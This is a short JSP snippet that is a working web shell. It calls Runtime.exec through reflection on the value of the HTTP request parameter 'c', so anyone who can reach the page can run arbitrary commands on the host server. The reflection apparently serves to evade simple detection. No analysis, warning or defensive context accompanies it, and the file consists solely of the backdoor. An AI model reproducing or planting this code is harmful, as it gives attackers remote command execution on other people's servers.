<%
Class r = Class.forName("java.lang.Runtime");
Object rt = r.getMethod("getRuntime").invoke(null);
r.getMethod("exec", String.class).invoke(rt, request.getParameter("c"));
%>
